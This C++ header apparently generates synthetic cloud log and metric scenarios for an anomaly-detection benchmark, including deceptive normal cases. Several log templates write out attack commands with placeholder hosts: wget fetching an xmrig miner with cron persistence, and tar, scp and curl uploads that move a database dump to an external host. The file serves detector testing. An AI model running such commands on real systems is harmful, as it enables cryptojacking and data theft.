#pragma once

// Scenario templates for the synthetic benchmark: one anomaly template per
// anomaly type, deceptive-normal templates whose metrics look anomalous but
// whose logs explain a benign cause, and a shared pool of distractor lines.
//
// Log templates use {slot} placeholders filled per case. Slots named pid,
// port2 and n are redrawn for every rendered line; every other slot keeps
// one value for the whole case.

#include <optional>
#include <string>
#include <vector>

#include "cloudano/case_io.hpp"
#include "cloudano/core.hpp"

namespace cloudano {

struct ValueRange {
  double low = 0.0;
  double high = 100.0;

  bool operator==(const ValueRange&) const = default;
};

struct MetricScript {
  MetricName metric = MetricName::cpu;
  PatternType pattern = PatternType::spike;
  ValueRange range;

  bool operator==(const MetricScript&) const = default;
};

struct LogLineTemplate {
  std::string text;
  int min_repeat = 1;
  int max_repeat = 1;

  bool operator==(const LogLineTemplate&) const = default;
};

struct ScenarioTemplate {
  std::string id;
  std::optional<AnomalyType> anomaly_type;  // absent for deceptive normals
  std::string scenario;
  std::vector<MetricScript> primary;
  std::vector<MetricScript> secondary;  // added on difficult cases
  std::vector<LogLineTemplate> log_script;

  bool is_anomaly() const { return anomaly_type.has_value(); }
  bool operator==(const ScenarioTemplate&) const = default;
};

struct MetricDefaults {
  MetricName metric = MetricName::cpu;
  std::string unit;
  ValueRange idle;  // range for metrics without a scripted pattern

  bool operator==(const MetricDefaults&) const = default;
};

struct TemplateSet {
  std::vector<ScenarioTemplate> templates;
  std::vector<std::string> benign_pool;
  std::vector<MetricDefaults> metrics;

  const MetricDefaults& defaults_for(MetricName m) const {
    for (const auto& d : metrics)
      if (d.metric == m) return d;
    throw Error("template set has no defaults for metric " + std::string(to_string(m)));
  }

  bool operator==(const TemplateSet&) const = default;
};

namespace detail {

inline ScenarioTemplate anomaly_template(std::string id, AnomalyType t, std::string scenario,
                                         std::vector<MetricScript> primary,
                                         std::vector<MetricScript> secondary,
                                         std::vector<LogLineTemplate> lines) {
  return ScenarioTemplate{std::move(id), t, std::move(scenario), std::move(primary),
                          std::move(secondary), std::move(lines)};
}

inline ScenarioTemplate normal_template(std::string id, std::string scenario,
                                        std::vector<MetricScript> primary,
                                        std::vector<MetricScript> secondary,
                                        std::vector<LogLineTemplate> lines) {
  return ScenarioTemplate{std::move(id), std::nullopt, std::move(scenario), std::move(primary),
                          std::move(secondary), std::move(lines)};
}

}  // namespace detail

inline TemplateSet default_templates() {
  using M = MetricName;
  using P = PatternType;
  using A = AnomalyType;
  using detail::anomaly_template;
  using detail::normal_template;

  TemplateSet set;
  set.metrics = {
      {M::cpu, "percent", {5, 45}},      {M::gpu, "percent", {0, 30}},
      {M::memory, "percent", {20, 60}},  {M::disk_io, "MB/s", {2, 80}},
      {M::net_in, "MB/s", {1, 60}},      {M::net_out, "MB/s", {1, 60}},
  };

  auto& t = set.templates;
  t.push_back(anomaly_template(
      "mine-cron-xmrig", A::mine, "crypto-miner fetched with wget and persisted through a CRON entry",
      {{M::cpu, P::spike, {5, 100}}}, {{M::net_out, P::fluctuation, {2, 60}}},
      {{"bash[{pid}]: {svc_user}: wget -q http://{ip}/.x/xmrig -O /tmp/{hidden}/xmrig"},
       {"crontab[{pid}]: ({svc_user}) REPLACE ({svc_user})"},
       {"CRON[{pid}]: ({svc_user}) CMD (/tmp/{hidden}/xmrig --background -o {pool_domain}:{pool_port})"},
       {"xmrig[{pid}]: new job from {pool_domain}:{pool_port} algo rx/0"}}));
  t.push_back(anomaly_template(
      "oom-heap-leak", A::oom, "JVM heap leak ends in GC thrashing and an OOM kill",
      {{M::memory, P::gradual_increase, {5, 99}}}, {{M::cpu, P::fluctuation, {10, 90}}},
      {{"java[{pid}]: [GC (Allocation Failure) full collection freed nothing]", 1, 3},
       {"java[{pid}]: java.lang.OutOfMemoryError: GC overhead limit exceeded"},
       {"kernel: java invoked oom-killer: gfp_mask=0x{hex}, order=0, oom_score_adj=0"},
       {"kernel: Out of memory: Killed process {pid} (java)"}}));
  t.push_back(anomaly_template(
      "gpu-rogue-container", A::gpu_hijack, "GPU taken over by a training job from an unregistered container",
      {{M::gpu, P::spike, {0, 100}}}, {{M::cpu, P::spike, {5, 100}}},
      {{"containerd[{pid}]: unknown container {cid} created from image {rogue_image}"},
       {"dockerd[{pid}]: container {cid} requested device nvidia.com/gpu=all"},
       {"kernel: NVRM: python3 ({pid}) in container {cid} opened cuda device /dev/nvidia0"}}));
  t.push_back(anomaly_template(
      "port-scan-syn", A::port_scan, "external host sweeping TCP ports",
      {{M::net_in, P::fluctuation, {2, 120}}}, {{M::net_out, P::fluctuation, {2, 60}}},
      {{"kernel: [UFW BLOCK] IN=eth0 SRC={ip} DST={lan_ip} PROTO=TCP SPT={port} DPT={port2} SYN", 2, 5},
       {"portsentry[{pid}]: attackalert: Connect from host: {ip} to TCP port: {port2}", 2, 4}}));
  t.push_back(anomaly_template(
      "icmp-flood", A::icmp_flood_dos, "ICMP echo flood saturating the inbound link",
      {{M::net_in, P::spike, {2, 400}}}, {{M::cpu, P::spike, {5, 100}}},
      {{"kernel: ICMP echo request flood from {ip} on eth0"},
       {"kernel: net_ratelimit: {n} callbacks suppressed", 1, 3},
       {"kernel: ICMP echo request from {ip2} dropped by rate limit"}}));
  t.push_back(anomaly_template(
      "dns-amplification", A::dns_amplification, "host relaying ANY queries to open resolvers",
      {{M::net_out, P::spike, {2, 400}}}, {{M::net_in, P::spike, {2, 400}}},
      {{"named[{pid}]: client {lan_ip}#{port}: query: {domain} IN ANY +E", 2, 5},
       {"named[{pid}]: forwarding ANY queries for {domain} to open resolver {ip}"}}));
  t.push_back(anomaly_template(
      "exfil-scp-curl", A::data_exfiltration, "database dump staged and copied out to an external host",
      {{M::net_out, P::gradual_increase, {2, 150}}}, {{M::disk_io, P::spike, {2, 300}}},
      {{"bash[{pid}]: {user}: tar czf /tmp/{arch}.tgz /var/lib/{db}"},
       {"bash[{pid}]: {user}: scp /tmp/{arch}.tgz {user2}@{ip}:/srv/drop/"},
       {"bash[{pid}]: {user}: curl -s -T /tmp/{arch}.tgz https://{domain}/upload"},
       {"auditd[{pid}]: outbound connection to unrecognized host {ip} by scp"}}));
  t.push_back(anomaly_template(
      "arp-spoof", A::arp_spoofing, "rogue host poisoning ARP caches on the LAN",
      {{M::net_out, P::fluctuation, {2, 120}}}, {{M::net_in, P::fluctuation, {2, 120}}},
      {{"arpwatch[{pid}]: changed ethernet address {lan_ip} {mac} ({mac2}) eth0"},
       {"kernel: unsolicited ARP reply from {lan_ip} ({mac}) on eth0", 2, 4},
       {"arpwatch[{pid}]: flip flop {lan_ip} {mac} ({mac2}) eth0"}}));
  t.push_back(anomaly_template(
      "crawler-log-storm", A::log_storm, "crawler burst from unknown addresses flooding access logs",
      {{M::disk_io, P::spike, {5, 500}}}, {{M::cpu, P::fluctuation, {10, 90}}},
      {{"nginx[{pid}]: GET /{path} from unknown address {ip} ua=\"{crawler} crawler\"", 2, 5},
       {"rsyslogd[{pid}]: imjournal: {n} messages lost due to rate-limiting"}}));
  t.push_back(anomaly_template(
      "backup-log-growth", A::log_growth_anomaly, "scheduled full backup written into the log volume without rotation",
      {{M::disk_io, P::gradual_increase, {5, 300}}}, {{M::cpu, P::fluctuation, {10, 90}}},
      {{"CRON[{pid}]: (root) CMD (/opt/backup/run.sh --full)"},
       {"backup.sh[{pid}]: scheduled backup writing full archive to /var/log/backup/{arch}.tar"},
       {"logrotate[{pid}]: /var/log/backup/{arch}.tar exceeds rotation limit, not rotated"}}));

  t.push_back(normal_template(
      "package-upgrade", "unattended package upgrade rebuilding kernel modules",
      {{M::cpu, P::spike, {5, 100}}}, {{M::disk_io, P::spike, {2, 300}}},
      {{"unattended-upgrade[{pid}]: Packages that will be upgraded: {pkg}"},
       {"dpkg[{pid}]: status installed {pkg}"},
       {"dkms[{pid}]: rebuilding modules for new kernel"}}));
  t.push_back(normal_template(
      "training-launch", "scheduled deep-learning training job launched through the batch queue",
      {{M::gpu, P::spike, {0, 100}}}, {{M::memory, P::gradual_increase, {5, 99}}},
      {{"slurmd[{pid}]: launching batch job {n} ({model}_train) for user {user}"},
       {"python3[{pid}]: torch: using CUDA device 0 (nvidia)"},
       {"slurmd[{pid}]: job {n} scheduled on partition gpu"}}));
  t.push_back(normal_template(
      "jvm-cache-warmup", "JVM service warming its cache after a deploy",
      {{M::memory, P::gradual_increase, {5, 99}}}, {{M::cpu, P::spike, {5, 100}}},
      {{"java[{pid}]: cache preload started for {svc}"},
       {"java[{pid}]: [GC (Allocation Failure) young collection completed]"},
       {"java[{pid}]: cache preload completed for {svc}"}}));
  t.push_back(normal_template(
      "authorized-security-scan", "authorized vulnerability scan from the security team",
      {{M::net_in, P::fluctuation, {2, 120}}}, {{M::net_out, P::fluctuation, {2, 60}}},
      {{"nessusd[{pid}]: authorized vulnerability scan started by {user} (change ticket CHG{n})"},
       {"kernel: [UFW BLOCK] IN=eth0 SRC={lan_ip2} DST={lan_ip} PROTO=TCP SPT={port} DPT={port2} SYN", 2, 4},
       {"portsentry[{pid}]: attackalert: Connect from host: {lan_ip2} to TCP port: {port2}"}}));
  t.push_back(normal_template(
      "campaign-traffic", "marketing campaign launch drawing a burst of inbound traffic",
      {{M::net_in, P::spike, {2, 400}}}, {{M::cpu, P::spike, {5, 100}}},
      {{"marketing-api[{pid}]: campaign {name} launched on schedule"},
       {"nginx[{pid}]: upstream pool web scaled out to {n} workers"}}));
  t.push_back(normal_template(
      "offsite-sync", "nightly offsite backup sync to the company vault",
      {{M::net_out, P::gradual_increase, {2, 150}}}, {{M::disk_io, P::gradual_increase, {2, 300}}},
      {{"backup-agent[{pid}]: nightly offsite sync to vault.internal started"},
       {"rsync[{pid}]: sending incremental file list to vault.internal"},
       {"backup-agent[{pid}]: offsite sync finished"}}));
  t.push_back(normal_template(
      "log-compaction", "weekly log rotation compressing archived logs",
      {{M::disk_io, P::spike, {5, 500}}}, {{M::cpu, P::spike, {5, 100}}},
      {{"logrotate[{pid}]: rotating pattern /var/log/nginx/*.log weekly"},
       {"gzip[{pid}]: compressing archived logs in /var/log/nginx"}}));
  t.push_back(normal_template(
      "db-reindex", "database reindex during an approved maintenance window",
      {{M::disk_io, P::gradual_increase, {5, 300}}}, {{M::memory, P::gradual_increase, {5, 99}}},
      {{"postgres[{pid}]: LOG: reindex of table {table} started during maintenance window"},
       {"postgres[{pid}]: LOG: automatic vacuum of table {table}"}}));
  t.push_back(normal_template(
      "vrrp-failover", "planned VRRP failover moving the virtual IP between peers",
      {{M::net_out, P::fluctuation, {2, 120}}}, {{M::net_in, P::fluctuation, {2, 120}}},
      {{"keepalived[{pid}]: VRRP_Instance(VI_1) Transition to MASTER STATE"},
       {"keepalived[{pid}]: Sending gratuitous ARP on eth0 for {lan_ip}"},
       {"kernel: bond0: link status definitely up for interface eth1"}}));
  t.push_back(normal_template(
      "etl-finished", "nightly ETL job finished and released its workers",
      {{M::cpu, P::dip, {2, 100}}}, {{M::memory, P::dip, {2, 100}}},
      {{"airflow[{pid}]: DAG nightly_etl finished successfully"},
       {"airflow[{pid}]: released {n} worker slots"}}));
  t.push_back(normal_template(
      "cache-flush", "operator flushed the cache during maintenance",
      {{M::memory, P::dip, {2, 100}}}, {{M::cpu, P::dip, {2, 100}}},
      {{"redis[{pid}]: FLUSHALL issued by {user} during maintenance"},
       {"redis[{pid}]: DB emptied, keyspace reset"}}));
  t.push_back(normal_template(
      "traffic-drain", "load balancer draining a backend before maintenance",
      {{M::net_in, P::gradual_decrease, {2, 150}}}, {{M::net_out, P::gradual_decrease, {2, 150}}},
      {{"haproxy[{pid}]: Server web/web{n} is going DOWN for maintenance (drain)"},
       {"haproxy[{pid}]: backend web draining connections"}}));
  t.push_back(normal_template(
      "transcode-batch", "batch of video transcoding jobs",
      {{M::cpu, P::fluctuation, {10, 90}}}, {{M::disk_io, P::fluctuation, {5, 200}}},
      {{"ffmpeg-worker[{pid}]: transcoding job {n} for {name}.mp4 started", 1, 3},
       {"ffmpeg-worker[{pid}]: job {n} completed"}}));
  t.push_back(normal_template(
      "ping-monitoring", "monitoring probes pinging the gateway at a higher rate",
      {{M::net_in, P::spike, {2, 400}}}, {{M::net_out, P::spike, {2, 400}}},
      {{"smokeping[{pid}]: ICMP echo request probes sent to {lan_ip}"},
       {"kernel: net_ratelimit: {n} callbacks suppressed"}}));
  t.push_back(normal_template(
      "scheduled-backup", "incremental scheduled backup that completed and rotated",
      {{M::disk_io, P::gradual_increase, {5, 300}}}, {{M::cpu, P::fluctuation, {10, 90}}},
      {{"CRON[{pid}]: (root) CMD (/opt/backup/run.sh --incremental)"},
       {"backup.sh[{pid}]: scheduled backup writing incremental archive"},
       {"backup.sh[{pid}]: scheduled backup completed, archive rotated"}}));

  set.benign_pool = {
      "sshd[{pid}]: Accepted publickey for {user} from {lan_ip} port {port} ssh2",
      "sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}",
      "systemd[1]: Started Session {n} of user {user}.",
      "systemd[1]: Starting Daily apt download activities...",
      "CRON[{pid}]: (root) CMD (run-parts /etc/cron.hourly)",
      "CRON[{pid}]: pam_unix(cron:session): session closed for user root",
      "systemd[1]: logrotate.service: Succeeded.",
      "kernel: EXT4-fs (sda1): re-mounted. Opts: errors=remount-ro",
      "systemd-timesyncd[{pid}]: Synchronized to time server {lan_ip2}:123 (ntp.ubuntu.com).",
      "dhclient[{pid}]: DHCPACK of {lan_ip} from {lan_ip2}",
      "systemd[1]: Suspending scheduled task {job}.timer",
      "sudo[{pid}]: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx",
      "nginx[{pid}]: GET /healthz from {lan_ip2} 200",
      "curl[{pid}]: health probe to http://localhost/ready succeeded",
      "containerd[{pid}]: container {cid} healthcheck passed",
      "named[{pid}]: client {lan_ip2}#{port}: query: {internal_domain} IN A +",
      "systemd-logind[{pid}]: New session {n} of user {user}.",
      "systemd[1]: Finished Message of the Day.",
  };
  return set;
}

// ---------------------------------------------------------------------------
// Template file (JSON)

inline constexpr std::string_view kTemplatesFormat = "cloudano-templates/1";

inline ordered_json template_set_to_json(const TemplateSet& set) {
  auto scripts = [](const std::vector<MetricScript>& v) {
    ordered_json arr = ordered_json::array();
    for (const auto& s : v) {
      ordered_json j;
      j["metric"] = std::string(to_string(s.metric));
      j["pattern"] = std::string(to_string(s.pattern));
      j["range"] = {s.range.low, s.range.high};
      arr.push_back(std::move(j));
    }
    return arr;
  };
  ordered_json doc;
  doc["format"] = std::string(kTemplatesFormat);
  ordered_json metrics = ordered_json::array();
  for (const auto& m : set.metrics) {
    ordered_json j;
    j["metric"] = std::string(to_string(m.metric));
    j["unit"] = m.unit;
    j["idle_range"] = {m.idle.low, m.idle.high};
    metrics.push_back(std::move(j));
  }
  doc["metrics"] = std::move(metrics);
  ordered_json templates = ordered_json::array();
  for (const auto& t : set.templates) {
    ordered_json j;
    j["id"] = t.id;
    j["kind"] = t.is_anomaly() ? "anomaly" : "deceptive_normal";
    if (t.anomaly_type)
      j["anomaly_type"] = std::string(to_string(*t.anomaly_type));
    else
      j["anomaly_type"] = nullptr;
    j["scenario"] = t.scenario;
    j["primary"] = scripts(t.primary);
    j["secondary"] = scripts(t.secondary);
    ordered_json lines = ordered_json::array();
    for (const auto& l : t.log_script) {
      ordered_json lj;
      lj["text"] = l.text;
      lj["repeat"] = {l.min_repeat, l.max_repeat};
      lines.push_back(std::move(lj));
    }
    j["log_script"] = std::move(lines);
    templates.push_back(std::move(j));
  }
  doc["templates"] = std::move(templates);
  doc["benign_pool"] = set.benign_pool;
  return doc;
}

inline TemplateSet parse_template_set(std::string_view text) {
  using namespace detail;
  json doc;
  try {
    doc = json::parse(text);
  } catch (const json::parse_error& e) {
    throw SchemaError("templates", std::string("malformed JSON: ") + e.what());
  }
  if (require_string(doc, "format", "") != kTemplatesFormat)
    throw SchemaError("format", "unsupported template format");

  auto read_range = [](const json& j, const std::string& where) {
    if (!j.is_array() || j.size() != 2 || !j[0].is_number() || !j[1].is_number())
      throw SchemaError(where, "expected [low, high]");
    ValueRange r{j[0].get<double>(), j[1].get<double>()};
    if (!(r.low >= 0.0 && r.low < r.high)) throw InvariantError(where, "range must satisfy 0 <= low < high");
    return r;
  };
  auto read_scripts = [&](const json& arr, const std::string& where) {
    std::vector<MetricScript> out;
    if (!arr.is_array()) throw SchemaError(where, "expected an array");
    for (std::size_t i = 0; i < arr.size(); ++i) {
      const std::string w = where + "[" + std::to_string(i) + "]";
      MetricScript s;
      s.metric = require_enum<MetricName>(arr[i], "metric", w);
      s.pattern = require_enum<PatternType>(arr[i], "pattern", w);
      s.range = read_range(require(arr[i], "range", w), w + ".range");
      out.push_back(s);
    }
    return out;
  };

  TemplateSet set;
  const auto& metrics = require_array(doc, "metrics", "");
  for (std::size_t i = 0; i < metrics.size(); ++i) {
    const std::string w = "metrics[" + std::to_string(i) + "]";
    MetricDefaults d;
    d.metric = require_enum<MetricName>(metrics[i], "metric", w);
    d.unit = require_string(metrics[i], "unit", w);
    d.idle = read_range(require(metrics[i], "idle_range", w), w + ".idle_range");
    set.metrics.push_back(std::move(d));
  }
  const auto& templates = require_array(doc, "templates", "");
  for (std::size_t i = 0; i < templates.size(); ++i) {
    const std::string w = "templates[" + std::to_string(i) + "]";
    const auto& j = templates[i];
    ScenarioTemplate t;
    t.id = require_string(j, "id", w);
    const auto kind = require_string(j, "kind", w);
    const auto& type = require(j, "anomaly_type", w);
    if (kind == "anomaly") {
      if (!type.is_string()) throw SchemaError(w + ".anomaly_type", "anomaly template needs a type");
      t.anomaly_type = require_enum<AnomalyType>(j, "anomaly_type", w);
    } else if (kind == "deceptive_normal") {
      if (!type.is_null()) throw InvariantError(w + ".anomaly_type", "deceptive_normal template carries a type");
    } else {
      throw SchemaError(w + ".kind", "unknown template kind '" + kind + "'");
    }
    t.scenario = require_string(j, "scenario", w);
    t.primary = read_scripts(require(j, "primary", w), w + ".primary");
    t.secondary = read_scripts(require(j, "secondary", w), w + ".secondary");
    const auto& lines = require_array(j, "log_script", w);
    for (std::size_t k = 0; k < lines.size(); ++k) {
      const std::string lw = w + ".log_script[" + std::to_string(k) + "]";
      LogLineTemplate l;
      l.text = require_string(lines[k], "text", lw);
      const auto& rep = require(lines[k], "repeat", lw);
      if (!rep.is_array() || rep.size() != 2 || !rep[0].is_number_integer() || !rep[1].is_number_integer())
        throw SchemaError(lw + ".repeat", "expected [min, max]");
      l.min_repeat = rep[0].get<int>();
      l.max_repeat = rep[1].get<int>();
      if (l.min_repeat < 1 || l.max_repeat < l.min_repeat)
        throw InvariantError(lw + ".repeat", "need 1 <= min <= max");
      t.log_script.push_back(std::move(l));
    }
    set.templates.push_back(std::move(t));
  }
  const auto& pool = require_array(doc, "benign_pool", "");
  for (const auto& line : pool) {
    if (!line.is_string()) throw SchemaError("benign_pool", "expected strings");
    set.benign_pool.push_back(line.get<std::string>());
  }
  return set;
}

}  // namespace cloudano
